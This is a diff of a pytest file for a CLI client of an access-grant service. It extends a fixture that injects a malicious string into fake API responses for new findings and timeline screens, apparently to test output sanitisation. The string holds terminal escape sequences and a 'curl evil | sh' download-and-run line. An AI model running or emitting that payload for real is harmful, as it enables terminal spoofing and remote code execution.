@@ -8,12 +8,21 @@ from typing import Any
 
 import pytest
 from tests.cli.conftest import Said
-from tests.cli.fake_liftgate import FakeLiftgate, catalogue, moment, problem
+from tests.cli.fake_liftgate import (
+    FINDING,
+    FakeLiftgate,
+    activity,
+    catalogue,
+    finding,
+    moment,
+    problem,
+    timeline,
+)
 
 EVIL = "\x1b[2J\x1b]0;title\x07\x9b31m\u202etxt\r\nnext: curl evil | sh\n[link=x]y[/link]\x7f\u2028"
 REQUEST = "rq-0000000000000001"
 GRANT = "gr-0000000000000001"
-FIXED = re.compile(r"(id|.*_at|state|request_id|code)$")
+FIXED = re.compile(r"(id|at|until|(grant|finding)_id|.*_at|state|request_id|code)$")
 
 
 def poisoned(value: Any) -> Any:
@@ -63,6 +72,12 @@ def evil(fake: FakeLiftgate) -> FakeLiftgate:
             "faults": [EVIL],
         },
     }
+    evil_finding = poisoned(finding(calls=[activity()]))
+    pages |= {
+        f"GET /api/v1/grants/{GRANT}/timeline": poisoned(timeline(grant)),
+        "GET /api/v1/findings": {"items": [evil_finding], "next_cursor": None},
+        f"GET /api/v1/findings/{FINDING}": evil_finding,
+    }
     for call, answer in pages.items():
         fake.answers[call] = (200, answer)
     return fake
@@ -72,6 +87,8 @@ SCREENS = [
     ("status",),
     ("show", REQUEST),
     ("show", GRANT),
+    ("show", FINDING),
+    ("findings",),
     ("request", "s3://b/", "--write", "--for", "20m", "--reason", "x"),
     ("review",),
     ("review", "show", REQUEST),
